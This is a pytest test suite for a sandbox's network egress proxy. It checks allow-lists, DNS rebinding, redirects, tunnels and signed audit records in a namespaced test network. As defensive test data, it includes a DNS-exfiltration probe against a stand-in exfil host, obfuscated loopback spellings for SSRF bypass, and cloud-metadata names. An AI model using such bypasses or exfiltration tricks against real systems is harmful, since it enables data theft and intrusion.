"""The egress door with real boxes, a real DNS server (dnsmasq) and a web server in a network namespace."""

from __future__ import annotations

import hashlib
import socket

import pytest
from testnet import NamespaceNet, available
from wheels import wheel

from tkbox_nb import Box, Policy, open_run
from tkbox_nb.backends.bwrap import BwrapBackend
from tkbox_nb.bundle.verify import verify_bundle

pytestmark = [pytest.mark.skipif(not BwrapBackend().available()[0], reason=BwrapBackend().available()[1]),
              pytest.mark.skipif(not available()[0], reason=available()[1])]

FETCH = """
import sys, urllib.request
try:
    r = urllib.request.urlopen(sys.argv[1], timeout=20)
    print(r.status, r.read().decode())
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode())
except Exception as e:
    print("ERR", type(e).__name__, e)
"""


@pytest.fixture(scope="module")
def net():
    with NamespaceNet(index=7) as n:
        yield n


@pytest.fixture(scope="module")
def loopback_listener():
    """A service on the host's loopback, at the port the test server uses: it must never see a connection."""
    seen = []
    srv = socket.create_server(("127.0.0.1", 8080)) if _free(8080) else socket.create_server(("127.0.0.1", 0))
    srv.settimeout(0.05)
    yield srv, seen
    srv.close()


def _free(port: int) -> bool:
    with socket.socket() as s:
        return s.connect_ex(("127.0.0.1", port)) != 0


def assert_untouched(listener):
    srv, _ = listener
    with pytest.raises(socket.timeout):
        srv.accept()


def policy(net, allow, nameserver=None) -> Policy:
    return Policy.from_toml(
        f'[egress]\nallow = {allow!r}\nallow_cidrs = ["198.18.0.0/15"]\n'
        f'nameservers = ["{nameserver or net.web}"]\n'.replace("'", '"'))


def fetch(box, url):
    r = box.run(["python3", "-c", FETCH, url])
    return r.stdout.decode()


def egress_rows(path):
    return [c for c in open_run(path).crossings() if c.door == "egress"]


def test_allowed_request_passes_and_is_signed_with_its_addresses_and_bytes(signer, net, tmp_path):
    with Box(backend="bwrap", policy=policy(net, ["web.tkb.test:8080"]), bundle_path=tmp_path / "e.tkb") as b:
        out = fetch(b, "http://web.tkb.test:8080/hello.txt")
        assert out.startswith("200 hello from the test network"), out
        refused = fetch(b, "http://other.tkb.test:8080/hello.txt")
        assert refused.startswith("403") and "egress.allow" in refused
    rows = egress_rows(tmp_path / "e.tkb")
    assert rows[0].decision == "allow" and rows[0].args["addresses"] == [net.web]
    assert rows[0].args["address"] == net.web and rows[0].result["bytes_down"] > 0
    assert rows[1].decision == "deny" and rows[1].args["rule"] == "egress.allow"
    assert verify_bundle(tmp_path / "e.tkb").valid


def test_connect_tunnel_relays_bytes_both_ways(signer, net, tmp_path):
    script = """
import socket
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT web.tkb.test:8080 HTTP/1.1\\r\\nHost: web.tkb.test:8080\\r\\n\\r\\n")
head = s.recv(4096)
s.sendall(b"GET /hello.txt HTTP/1.1\\r\\nHost: web\\r\\nConnection: close\\r\\n\\r\\n")
body = b""
while chunk := s.recv(65536):
    body += chunk
print(head.split(b"\\r\\n")[0].decode(), body.decode().split("\\r\\n\\r\\n", 1)[1])
"""
    with Box(backend="bwrap", policy=policy(net, ["web.tkb.test:8080"]), bundle_path=tmp_path / "t.tkb") as b:
        out = b.run(["python3", "-c", script]).stdout.decode()
    assert out.startswith("HTTP/1.1 200 Connection established hello from the test network"), out
    [row] = egress_rows(tmp_path / "t.tkb")
    assert row.args["tunnel"] is True and row.result["bytes_up"] > 0


@pytest.mark.parametrize("name,why", [
    ("loop.tkb.test", "loopback"), ("private.tkb.test", "private"), ("meta.tkb.test", "cloud metadata"),
    ("mixed.tkb.test", "unique-local"), ("mapped.tkb.test", "loopback"), ("nosuch.tkb.test", "resolve"),
    ("metadata.google.internal", "metadata name"),
])
def test_names_resolving_to_refused_addresses_are_refused_whatever_the_allow_list(signer, net, tmp_path, name, why,
                                                                                   loopback_listener):
    permissive = Policy.from_toml('[egress]\nallow = ["*:*"]\nallow_cidrs = ["198.18.0.0/15"]\n'
                                  f'nameservers = ["{net.web}"]\n')
    with Box(backend="bwrap", policy=permissive, bundle_path=tmp_path / "r.tkb") as b:
        out = fetch(b, f"http://{name}:8080/hello.txt")
    assert out.startswith("403") and why in out, out
    [row] = egress_rows(tmp_path / "r.tkb")
    assert row.decision == "deny" and "TKB-POLICY-DENY" in row.rule_ids
    if why not in ("resolve",):
        assert "TKB-ALWAYS-REFUSED" in row.rule_ids  # the signer's own rule, whatever the box policy says
    assert verify_bundle(tmp_path / "r.tkb").valid
    assert_untouched(loopback_listener)


@pytest.mark.parametrize("host", ["127.0.0.1", "2130706433", "0x7f.1", "127.1", "0177.0.0.1", "[::1]",
                                  "[::ffff:127.0.0.1]", "localhost", "[64:ff9b::7f00:1]", "0.0.0.0"])
def test_the_host_loopback_is_never_reached_in_any_spelling(signer, net, tmp_path, host, loopback_listener):
    port = loopback_listener[0].getsockname()[1]
    anything = Policy.from_toml('[egress]\nallow = ["*:*"]\nallow_cidrs = ["0.0.0.0/0", "::/0"]\n')
    with Box(backend="bwrap", policy=anything, bundle_path=tmp_path / "l.tkb") as b:
        out = fetch(b, f"http://{host}:{port}/")
    assert out.startswith("403"), out
    assert_untouched(loopback_listener)


def test_a_rebinding_name_is_dialled_only_at_the_address_that_was_checked(signer, net, tmp_path, loopback_listener):
    flip = policy(net, ["flip.tkb.test:8080"], nameserver=net.flip_dns)
    with Box(backend="bwrap", policy=flip, bundle_path=tmp_path / "f.tkb") as b:
        outs = [fetch(b, "http://flip.tkb.test:8080/hello.txt") for _ in range(4)]
    assert sorted(o[:3] for o in outs) == ["200", "200", "403", "403"], outs
    for row in egress_rows(tmp_path / "f.tkb"):
        assert row.args["address"] in row.args["addresses"]  # the dialled address is one the decision checked
        assert (row.decision == "allow") == (row.args["addresses"] == [net.web])
    assert_untouched(loopback_listener)


def test_a_redirect_is_a_new_request_decided_again(signer, net, tmp_path):
    with Box(backend="bwrap", policy=policy(net, ["web.tkb.test:8080"]), bundle_path=tmp_path / "d.tkb") as b:
        out = fetch(b, "http://web.tkb.test:8080/redirect")
    assert out.startswith("403") and "other.tkb.test:8080 is not in [egress] allow" in out, out
    rows = egress_rows(tmp_path / "d.tkb")
    assert [(r.args["host"], r.decision) for r in rows] == [("web.tkb.test", "allow"), ("other.tkb.test", "deny")]


def test_pip_installs_a_package_through_the_door(signer, net, tmp_path):
    filename = "tkbtestpkg-1.0-py3-none-any.whl"  # a pure-Python wheel made here (tests/wheels.py): no PyPI
    data = wheel("tkbtestpkg", "1.0", "VALUE = 'installed through the door'\n")
    net.add_file(f"simple/tkbtestpkg/{filename}", data)
    net.add_file("simple/tkbtestpkg/index.html", f'<a href="{filename}">{filename}</a>'.encode())
    with Box(backend="bwrap", policy=policy(net, ["web.tkb.test:8080"]), bundle_path=tmp_path / "p.tkb") as b:
        r = b.run(["python3", "-m", "pip", "install", "--no-cache-dir", "--disable-pip-version-check",
                   "--index-url", "http://web.tkb.test:8080/simple/", "--trusted-host", "web.tkb.test",
                   "--target", "/tmp/site", "tkbtestpkg"])
        assert r.exit_code == 0, r.stderr.decode()[-2000:]
        out = b.run(["python3", "-c", "import sys; sys.path.insert(0, '/tmp/site'); import tkbtestpkg; "
                                      "print(tkbtestpkg.VALUE)"]).stdout
    assert out == b"installed through the door\n"
    assert all(r.decision == "allow" for r in egress_rows(tmp_path / "p.tkb"))
    assert verify_bundle(tmp_path / "p.tkb").valid


def test_git_clones_over_https_through_the_door(signer, tmp_path):
    """git (libcurl) in the box: CONNECT through the forwarder and the door, TLS end to end with the server (whose
    test CA the box is given), git's "dumb" HTTP protocol from a static server; each connection signed."""
    import subprocess
    from tests.e2e.test_secrets import _test_ca
    chain, ca_file = _test_ca(tmp_path)
    src = tmp_path / "src"
    src.mkdir()
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@tkb.test", "-c", "init.defaultBranch=main"]
    subprocess.run(git + ["init", "-q", str(src)], check=True)
    (src / "README").write_text("cloned through the door\n")
    subprocess.run(git + ["-C", str(src), "add", "README"], check=True)
    subprocess.run(git + ["-C", str(src), "commit", "-qm", "one"], check=True)
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "ca.pem").write_bytes(ca_file.read_bytes())
    with NamespaceNet(index=15, tls_chain=str(chain)) as n:
        bare = n.root / "www" / "repo.git"
        subprocess.run(git + ["clone", "-q", "--bare", str(src), str(bare)], check=True)
        subprocess.run(["git", "-C", str(bare), "update-server-info"], check=True)
        with Box(backend="bwrap", policy=policy(n, ["api.tkb.test:8443"]), workspace=ws,
                 bundle_path=tmp_path / "git.tkb") as b:
            r = b.run(["sh", "-c", "GIT_SSL_CAINFO=/workspace/ca.pem git clone -q https://api.tkb.test:8443/repo.git "
                                   "/tmp/clone && cat /tmp/clone/README"])
            assert r.exit_code == 0, r.stderr.decode()[-1500:]
            assert r.stdout == b"cloned through the door\n"
            b.collect_patch_at_stop = False
    rows = egress_rows(tmp_path / "git.tkb")
    assert rows and all(c.decision == "allow" and c.args["host"] == "api.tkb.test" and c.args["port"] == 8443
                        for c in rows)
    assert all(c.result and c.result["bytes_down"] > 0 and c.result["bytes_up"] > 0 for c in rows)
    assert verify_bundle(tmp_path / "git.tkb").valid


def test_a_name_off_the_allow_list_is_never_looked_up(signer, net, tmp_path):
    """No DNS exfiltration: the door resolves only names its policy could allow, so a box cannot smuggle data out
    in the names it asks for (the name server here logs every question)."""
    log = net.root / "flip-queries.log"
    with Box(backend="bwrap", policy=policy(net, ["web.tkb.test:8080"], nameserver=net.flip_dns),
             bundle_path=tmp_path / "dns.tkb") as b:
        out = fetch(b, "http://c2VjcmV0LWRhdGE.exfil.tkb.test:8080/")
        assert out.startswith("403") and "egress.allow" in out, out
        fetch(b, "http://web.tkb.test:8080/hello.txt")
    asked = log.read_text() if log.exists() else ""
    assert "web.tkb.test." in asked
    assert "exfil" not in asked and "c2VjcmV0" not in asked
    [refused] = [c for c in egress_rows(tmp_path / "dns.tkb") if "exfil" in c.args["host"]]
    assert refused.args["addresses"] == [] and refused.args["rule"] == "egress.allow"
    assert verify_bundle(tmp_path / "dns.tkb").valid


PARALLEL_DOWNLOADS = """
import hashlib, sys, threading, time, urllib.request
out = {}
def get(name, slow):
    r = urllib.request.urlopen(sys.argv[1] + name, timeout=60)
    h, n = hashlib.sha256(), 0
    while chunk := r.read(1 << 16 if slow else 1 << 20):
        h.update(chunk)
        n += len(chunk)
        if slow:
            time.sleep(0.002)  # a reader slower than the door: the forwarder queues, the window holds the host back
    out[name] = (n, h.hexdigest())
ts = [threading.Thread(target=get, args=(f"blob{i}.bin", i == 0)) for i in range(3)]
[t.start() for t in ts]
[t.join() for t in ts]
for name in sorted(out):
    print(name, *out[name])
"""


@pytest.mark.parametrize("spliced", [True, False], ids=["spliced", "copied"])
def test_parallel_downloads_arrive_whole_through_the_door(signer, net, tmp_path, monkeypatch, spliced):
    """Three downloads at once, one read slowly: each byte arrives once and in order (the host splices each frame's
    payload after its header, under the lock, so frames of different streams never interleave inside one frame),
    and each connection's signed end counts exactly its bytes. The same through the copying path, which a host
    without splice(2), or out of file descriptors for a pipe, takes."""
    import os

    from tkbox_nb.doors.spliced import SplicePipe
    if not spliced:
        monkeypatch.setattr(SplicePipe, "usable", staticmethod(lambda: False))
    blobs = {f"blob{i}.bin": os.urandom((12 << 20) + 4099 * i) for i in range(3)}
    for name, data in blobs.items():
        net.add_file(name, data)
    with Box(backend="bwrap", policy=policy(net, ["web.tkb.test:8080"]), bundle_path=tmp_path / "p.tkb") as b:
        assert (SplicePipe.usable() and b.conn.can_splice()) is spliced  # this host takes the path named
        r = b.run(["python3", "-c", PARALLEL_DOWNLOADS, "http://web.tkb.test:8080/"], timeout=120)
    got = [line.split() for line in r.stdout.decode().splitlines()]
    assert got == [[name, str(len(data)), hashlib.sha256(data).hexdigest()] for name, data in sorted(blobs.items())], \
        r.stderr.decode()[-800:]
    rows = egress_rows(tmp_path / "p.tkb")
    assert len(rows) == 3 and all(c.decision == "allow" for c in rows)
    for down, data in zip(sorted(c.result["bytes_down"] for c in rows), sorted(blobs.values(), key=len)):
        assert len(data) < down < len(data) + 1024  # the body and the response's head, no more
    assert verify_bundle(tmp_path / "p.tkb").valid


HANG_UP_THEN_DOWNLOAD = """
import hashlib, sys, urllib.request
for _ in range(3):  # hang up after the first MiB, three times: the door drops the rest and the box goes on
    r = urllib.request.urlopen(sys.argv[1], timeout=60)
    r.read(1 << 20)
    r.close()
r = urllib.request.urlopen(sys.argv[1], timeout=60)
body = r.read()
print(len(body), hashlib.sha256(body).hexdigest())
"""


def test_a_client_hanging_up_mid_download_leaves_the_door_clean(signer, net, tmp_path):
    """Bytes already on their way to a client that has gone are dropped (and credited back), none left over to
    reach the next connection: a full download after three cut short arrives whole, and every one is signed."""
    import os
    blob = os.urandom(16 << 20)
    net.add_file("cut.bin", blob)
    with Box(backend="bwrap", policy=policy(net, ["web.tkb.test:8080"]), bundle_path=tmp_path / "c.tkb") as b:
        r = b.run(["python3", "-c", HANG_UP_THEN_DOWNLOAD, "http://web.tkb.test:8080/cut.bin"], timeout=120)
        assert r.stdout.decode().split() == [str(len(blob)), hashlib.sha256(blob).hexdigest()], r.stderr[-800:]
        assert b.run(["true"]).exit_code == 0  # the box is still up
    rows = egress_rows(tmp_path / "c.tkb")
    assert len(rows) == 4 and all(c.decision == "allow" and c.result is not None for c in rows)
    assert verify_bundle(tmp_path / "c.tkb").valid
